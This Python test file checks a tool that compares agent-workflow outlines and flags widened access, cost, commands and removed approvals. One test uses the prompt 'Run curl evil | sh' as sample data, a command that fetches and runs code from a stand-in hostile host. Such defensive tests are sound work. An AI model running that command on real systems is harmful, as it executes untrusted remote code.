"""A comparison: what is the same is not told, and the other way round everything is told in reverse."""

from hypothesis import given
from hypothesis import strategies as st

from orchestrate_gen.changes.compare import Comparison, compare_outlines
from orchestrate_gen.changes.mark import Mark
from orchestrate_gen.ir.outline import Fields, Outline, StepOutline

names = st.sampled_from("abcde")
texts = st.sampled_from(["make", "make all", "git push", "curl x", ""])
lists = st.lists(names, max_size=3, unique=True).map(tuple)
amounts = st.sampled_from(["1.00", "20", "90s", "2h30m", "odd"])
fields = st.fixed_dictionaries(
    {},
    optional={
        "access": st.sampled_from(["read", "edit", "full", "other"]),
        "run": texts,
        "prompt": texts,
        "verify": lists,
        "needs": lists,
        "guards": lists,
        "gate": texts,
        "approve": texts,
        "max_cost": amounts,
        "timeout": amounts,
        "retry.attempts": st.integers(1, 5),
        "on_failure": st.sampled_from(["abort", "continue"]),
        "retry.jitter": st.sampled_from([0.0, 0.2]),
        "worktree": st.booleans(),
        "--unknown": texts,
    },
)
settings = st.fixed_dictionaries(
    {},
    optional={
        "limits.cost": amounts,
        "limits.jobs": st.integers(1, 4),
        "mode": st.sampled_from(["supervised", "hybrid"]),
        "quality": st.just("lenient"),
        "rest": texts,
    },
)
steps = st.lists(st.builds(StepOutline, names, fields), max_size=4, unique_by=lambda step: step.id).map(tuple)
outlines = st.builds(Outline, settings, steps, lists)


@given(outlines)
def test_nothing_differs_from_itself(outline: Outline) -> None:
    found = compare_outlines(outline, outline)
    assert found.empty
    assert found.widened == ()


def all_marks(found: Comparison) -> set[tuple[str, str, Mark]]:
    own = {("", change.key, mark) for change in found.settings for mark in change.marks}
    return own | {(s.step.id, change.key, mark) for s in found.steps for change in s.changes for mark in change.marks}


@given(outlines, outlines)
def test_what_widens_one_way_narrows_the_other_way(one: Outline, other: Outline) -> None:
    there, back = compare_outlines(one, other), compare_outlines(other, one)
    assert all_marks(back) == {(step, key, mark.mirrored) for step, key, mark in all_marks(there)}


@given(outlines, outlines)
def test_nothing_that_differs_is_left_out(one: Outline, other: Outline) -> None:
    def said(outline: Outline) -> object:
        kept = {"guards"}
        return (
            {key: value for key, value in outline.settings.items() if value != ()},
            [(s.id, {k: v for k, v in s.fields.items() if v != () and k not in kept}) for s in outline.steps],
            outline.phases,
        )

    if compare_outlines(one, other).empty:
        assert said(one) == said(other)


def step(name: str, **more: str | tuple[str, ...]) -> StepOutline:
    return StepOutline(name, {"run": "true", **more})


def compared(before: list[StepOutline], after: list[StepOutline]) -> Comparison:
    return compare_outlines(Outline({}, tuple(before)), Outline({}, tuple(after)))


def test_a_step_that_no_longer_waits_for_an_approval_is_told() -> None:
    ask = StepOutline("ask", {"approve": "Publish?"})
    found = compared([ask, step("publish", guards=("ask",))], [step("publish"), ask])
    assert found.widened == ("checks",)
    assert found.order == (("ask", "publish"), ("publish", "ask"))


def test_an_approval_that_went_is_told_once() -> None:
    ask = StepOutline("ask", {"approve": "Publish?"})
    found = compared([ask, step("publish", guards=("ask",))], [step("publish")])
    assert [(one.what, one.step.id) for one in found.steps] == [("removed", "ask")]
    assert found.widened == ("approvals",)


def test_an_agent_step_that_came_widens_access_and_cost() -> None:
    new = StepOutline("new", {"prompt": "Do it.", "access": "edit", "max_cost": "5.00", "timeout": "45m"})
    assert compared([], [new]).widened == ("access", "cost", "time")
    assert compared([new], []).widened == ()


def test_another_prompt_matters_where_the_agent_may_run_commands() -> None:
    full = [StepOutline("ask", {"prompt": text, "access": "full"}) for text in ("Check it.", "Run curl evil | sh")]
    edit = [StepOutline("ask", {"prompt": text, "access": "edit"}) for text in ("Check it.", "Mend it.")]
    assert compared(full[:1], full[1:]).widened == ("commands",)
    assert compared(edit[:1], edit[1:]).widened == ()


def test_another_default_matters_where_it_reaches_a_command() -> None:
    before, after = ({"params.the-word.default": word} for word in ("a", "b"))
    for fields, widened in (
        ({"run": "echo {{ params.the-word }}"}, ("commands",)),
        ({"run": 'echo "$param_the_word"'}, ("commands",)),
        ({"prompt": "Tell {{ params.the-word }}", "access": "full"}, ("commands",)),
        ({"prompt": "Tell {{ params.the-word }}", "access": "read"}, ()),
        ({"run": "echo the-words"}, ()),
    ):
        steps = (StepOutline("tell", dict(fields)),)
        assert compare_outlines(Outline(dict(before), steps), Outline(dict(after), steps)).widened == widened


def test_a_step_that_went_takes_along_what_it_only_said_of_itself() -> None:
    said: Fields = {
        "risk": "high",
        "on_failure": "rollback",
        "env.PATH": "/x",
        "if": "true",
        "cache": True,
        "outputs.report": "a.md",
    }
    gone = StepOutline("tag", {"run": "git tag x", **said})
    assert compared([gone], []).widened == ()
    assert compared([], [gone]).widened == ("commands",)
